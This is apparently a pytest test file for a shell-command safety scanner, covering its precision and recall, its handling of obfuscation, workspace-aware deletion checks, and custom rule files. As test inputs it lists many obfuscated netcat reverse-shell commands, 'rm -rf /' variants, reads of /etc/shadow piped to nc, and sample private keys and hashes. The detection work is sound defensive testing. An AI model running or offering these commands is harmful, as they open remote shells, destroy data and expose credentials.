"""Safety detectors: precision and recall on the labelled corpus, obfuscations, rule files."""

from pathlib import Path

import pytest

from openale.safety import RuleError, ScanContext, load_rules, scan_command, scan_output
from openale.safety.evaluate import evaluate, load_corpus
from openale.safety.shell import parse

CORPUS = Path(__file__).parent / "data" / "safety"


@pytest.fixture(scope="module")
def corpus():
    return load_corpus(CORPUS / "benign.txt", CORPUS / "risky.tsv")


def test_the_corpus_is_big_enough_and_covers_every_category(corpus):
    benign = [s for s in corpus if s.category is None]
    risky = [s for s in corpus if s.category is not None]
    assert len(benign) >= 300 and len(risky) >= 150
    per = {c: sum(s.category == c for s in risky) for c in {s.category for s in risky}}
    assert len(per) == 10 and min(per.values()) >= 10, per
    held = [s for s in corpus if s.held_out]
    assert 0.12 < len(held) / len(corpus) < 0.28


@pytest.mark.parametrize("split", ["tuning", "held-out"])
def test_precision_and_recall_meet_the_goals(corpus, split):
    samples = [s for s in corpus if s.held_out == (split == "held-out")]
    ev = evaluate(samples)
    report = "\n".join(f"missed [{m.category}] {m.command}" for m in ev.misses) + "\n".join(
        f"false alarm {rules} {s.command}" for s, rules in ev.false_alarms
    )
    assert ev.overall.precision >= 0.95, report
    assert ev.overall.recall >= 0.90, report
    for category, score in ev.per_category.items():
        if score.tp + score.fn >= 5:
            assert score.recall >= 0.8, f"{category}: {score}\n{report}"


@pytest.mark.parametrize(
    "command, rule",
    [
        ("'n''c' -e /bin/sh 10.0.0.1 4444", "rs.netcat-exec"),
        ('"n"c -e /bin/sh 10.0.0.1 4444', "rs.netcat-exec"),
        ("X=nc; $X -e /bin/sh 10.0.0.1 4444", "rs.netcat-exec"),
        ('X="nc -e"; $X /bin/sh 10.0.0.1 4444', "rs.netcat-exec"),
        ("`echo nc` -e /bin/sh 10.0.0.1 4444", "rs.netcat-exec"),
        ("$(printf '\\x6e\\x63') -e /bin/sh 10.0.0.1 4444", "rs.netcat-exec"),
        ("sudo -u nobody timeout 5 nohup /usr/bin/nc -e sh 10.0.0.1 1", "rs.netcat-exec"),
        ("env A=1 busybox nc 10.0.0.1 4444 -e sh", "rs.netcat-exec"),
        ("sh -c 'bash -c \"eval nc -e sh 10.0.0.1 1\"'", "rs.netcat-exec"),
        ("echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | sh", "rs.netcat-exec"),
        (
            'sh -c "$(echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 --decode)"',
            "rs.netcat-exec",
        ),
        ("base64 -d <<< bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 > x.sh", "rs.netcat-exec"),
        ("bash <<EOF\nnc -e /bin/sh 10.0.0.1 4444\nEOF", "rs.netcat-exec"),
        ("python3 -c 'import os; os.system(\"nc -e sh 10.0.0.1 1\")'", "rs.netcat-exec"),
        ("nmap${IFS}-sS${IFS}10.0.0.0/24", "net.port-scanner"),
        ("cd / && rm -rf *", "destr.delete-outside-workspace"),
        ("ls && true || cat /etc/sha''dow", "cred.shadow"),
    ],
)
def test_obfuscations_are_seen_through(command, rule):
    assert rule in {f.rule for f in scan_command(command)}


def test_the_workspace_decides_what_is_destructive():
    ws = ScanContext(workdir="/srv/task")
    assert scan_command("rm -rf build/ /srv/task/dist /tmp/x ~/.cache/pip", ws) == []
    for outside in ("rm -rf /", "rm -rf ../../etc", "rm -rf ~", "rm -rf /workspace/build"):
        rules = {f.rule for f in scan_command(outside, ws)}
        assert "destr.delete-outside-workspace" in rules, outside
    # The same relative path is benign or not depending on where the command runs.
    assert scan_command("rm -rf lib", ScanContext(workdir="/srv/task")) == []
    assert scan_command("rm -rf lib", ScanContext(workdir="/srv/task", cwd="/usr"))


def test_parse_follows_cd_pipes_and_redirections():
    p = parse("cd /etc && cat shadow | nc h 1 > /tmp/o", cwd="/workspace")
    cat, nc = p.commands[1], p.commands[2]
    assert (cat.cwd, cat.piped_to, nc.piped_from) == ("/etc", "nc", "cat")
    assert [(a.op, a.path) for a in p.accesses()] == [
        ("read", "/etc"),
        ("read", "/etc/shadow"),
        ("write", "/tmp/o"),
    ]


def test_outputs_with_secrets_are_findings():
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
    assert [f.rule for f in scan_output("here:\n" + key)] == ["out.private-key"]
    assert [f.rule for f in scan_output("root:$6$abc$def:19000:0:99999:7:::")] == [
        "out.password-hash"
    ]
    assert scan_output("all 12 tests passed") == []


def test_user_rule_files_add_override_and_disable(tmp_path):
    extra = tmp_path / "mine.yaml"
    extra.write_text(
        """
macros:
  corp: 'corp\\.internal'
rules:
  - id: corp.internal-host
    category: network_scanning
    severity: medium
    description: The corporate network.
    match: {text: '{corp}'}
  - id: pers.shell-rc
    category: persistence
    severity: critical
    description: Stricter here.
    match: {paths: ['^~/\\.bashrc$'], ops: [append]}
  - id: rs.netcat-exec
    category: reverse_shell
    severity: critical
    description: turned off here
    enabled: false
    match: {programs: [nc]}
"""
    )
    rules = load_rules(extra)
    assert {f.rule for f in scan_command("curl http://wiki.corp.internal/", rules=rules)} == {
        "corp.internal-host"
    }
    (rc,) = scan_command("echo x >> ~/.bashrc", rules=rules)
    assert rc.severity == "critical"
    assert "rs.netcat-exec" not in {f.rule for f in scan_command("nc -e sh h 1", rules=rules)}
    assert "rs.netcat-exec" in {f.rule for f in scan_command("nc -e sh h 1")}


@pytest.mark.parametrize(
    "text, message",
    [
        (
            "rules: [{id: x, category: c, severity: huge, description: d, match: {text: a}}]",
            "severity",
        ),
        (
            "rules: [{id: x, category: c, severity: low, description: d, match: {text: '('}}]",
            "bad regex",
        ),
        (
            "rules: [{id: x, category: c, severity: low, description: d, match: {text: '{nope}'}}]",
            "macro",
        ),
        ("rules: [{id: x, category: c, severity: low, description: d, match: {}}]", "exactly one"),
        ("rules: [", "YAML"),
    ],
)
def test_bad_rule_files_say_what_is_wrong(tmp_path, text, message):
    bad = tmp_path / "bad.yaml"
    bad.write_text(text)
    with pytest.raises(RuleError, match=message):
        load_rules(bad)
